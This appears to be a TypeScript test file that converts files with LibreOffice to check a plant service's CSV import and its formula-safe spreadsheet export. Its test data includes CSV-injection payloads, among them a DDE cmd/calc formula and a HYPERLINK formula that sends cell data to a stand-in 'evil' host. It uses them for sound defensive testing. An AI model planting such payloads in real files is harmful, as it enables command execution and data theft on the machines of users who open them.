/** Files to and from LibreOffice. It makes the files of this folder anew from plants.fods. */
import assert from 'node:assert/strict'
import { readFileSync, writeFileSync } from 'node:fs'
import { basename, join } from 'node:path'
import { describe, it } from 'node:test'
import { pathToFileURL } from 'node:url'
import { delimiterNames, delimiters } from '../../src/contract/formats.ts'
import { findMissing, must } from '../deploy/needs.ts'
import { newFolder } from '../support/folder.ts'
import { authorized, startService } from '../support/service.ts'
import { type FileName, files, folder, foreign, plants, toPath } from './files.ts'

const skip = findMissing('soffice')

/** Converts a file with LibreOffice and answers the bytes of the new one. */
function convert(path: string, to: string, ...from: string[]): Buffer {
  const out = newFolder()
  const profile = `-env:UserInstallation=${pathToFileURL(join(out, 'profile'))}`
  must('soffice', [profile, '--headless', ...from, '--convert-to', to, '--outdir', out, path])
  const name = basename(path).replace(/\w+$/, to.replace(/:.*/, ''))
  return readFileSync(join(out, name))
}

/** Writes the rows of a file as Excel does: newlines inside of a field stay as they are. */
function toExcel(start: string, written: Buffer): Buffer {
  const text = written
    .toString('latin1')
    .replace(/"[^"]*"|\n/g, (part) => (part === '\n' ? '\r\n' : part))
  return Buffer.concat([Buffer.from(start), Buffer.from(text, 'latin1')])
}

for (const name of Object.keys(files) as FileName[]) {
  it(`${name} is imported, or refused with what to do`, { skip }, async () => {
    const form: { filter: string; excel?: string } = files[name]
    const written = convert(join(folder, 'plants.fods'), toCsv(form.filter))
    const body = form.excel === undefined ? written : toExcel(form.excel, written)
    writeFileSync(toPath(name), body)
    const service = await startService('sqlite::memory:')
    const headers = { ...authorized, 'Content-Type': 'text/csv' }
    const answer = await service.call({ method: 'POST', path: '/plants.csv', headers, body })
    if (name === foreign) assert.match(answer.body, /CSV UTF-8/)
    else {
      assert.match(answer.body, /"stored":4,.*"refusedInAll":0/)
      const list = await service.call({ path: '/plants' })
      assert.equal(list.body, `[${plants.join(',')}]`)
    }
  })
}

/** Names, and the cells that a spreadsheet has for them. */
const cells: [name: string, cell: string][] = [
  ['Käferbaum „groß“ 🌵', 'Käferbaum „groß“ 🌵'],
  ['Ficus; benjamina,\t"Danielle"', 'Ficus; benjamina,\t"Danielle"'],
  ['première ligne\ndeuxième', 'première ligne\ndeuxième'],
  [' a ', ' a '],
  ["d'été", "d'été"],
  ['=1+1', "'=1+1"],
  ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
  ['=HYPERLINK("http://evil/?"&A1,"click")', '\'=HYPERLINK("http://evil/?"&A1,"click")'],
  ['+1+1', "'+1+1"],
  ['-1+1', "'-1+1"],
  ['@SUM(1+1)', "'@SUM(1+1)"],
  ['a;=1+1;', "a;'=1+1;"],
  ['a,=1+1,', "a,'=1+1,"],
  ['a\t=1+1\t', "a\t'=1+1\t"],
  ['a\n=1+1', "a\n'=1+1"],
  ['a;"=1+1";', `a;'"=1+1";`],
]

describe('what a spreadsheet opens', { skip }, () => {
  for (const delimiter of delimiterNames) {
    it(`has the same cells and no formula, with ${delimiter}`, async () => {
      const path = await exportCells(`delimiter=${delimiter}&spreadsheet=true`)
      const filter = toImportFilter(delimiter)
      assert.equal(countFormulas(convert(path, 'fods', filter)), 0)
      const seen = convert(path, toCsv('44,34,76,1,,1033,true,false'), filter)
      const rows = cells.map(([, cell], at) => [toId(at), quote(cell), quote(cell)].join(','))
      assert.equal(seen.toString(), `${['"id","name","tag"', ...rows].join('\n')}\n`)
    })

    it(`has no formula when it is split by another delimiter than ${delimiter}`, async () => {
      const path = await exportCells(`delimiter=${delimiter}&spreadsheet=true`)
      for (const other of delimiterNames) {
        assert.equal(countFormulas(convert(path, 'fods', toImportFilter(other))), 0, other)
      }
    })
  }

  it('has formulas where the export is not for spreadsheets', async () => {
    const path = await exportCells('delimiter=comma')
    assert.notEqual(countFormulas(convert(path, 'fods', toImportFilter('comma'))), 0)
  })
})

/** Exports a store that has a plant for each of the cells. */
async function exportCells(query: string): Promise<string> {
  const service = await startService('sqlite::memory:')
  for (const [at, [name]] of cells.entries()) {
    await service.create(JSON.stringify({ id: toId(at), name, tag: name }))
  }
  const answer = await fetch(`${service.url}/plants.csv?${query}`, { headers: authorized })
  const path = join(newFolder(), 'export.csv')
  writeFileSync(path, Buffer.from(await answer.arrayBuffer()))
  return path
}

/** Negative ids, in ascending order: numbers, though they begin with a minus. */
function toId(at: number): number {
  return at - cells.length
}

/** The name by which LibreOffice knows CSV, with the form of the file. */
function toCsv(form: string): string {
  return `csv:Text - txt - csv (StarCalc):${form}`
}

function toImportFilter(delimiter: keyof typeof delimiters): string {
  return `--infilter=CSV:${delimiters[delimiter].charCodeAt(0)},34,76,1`
}

function countFormulas(sheet: Buffer): number {
  return sheet.toString().split('table:formula=').length - 1
}

function quote(text: string): string {
  return `"${text.replaceAll('"', '""')}"`
}
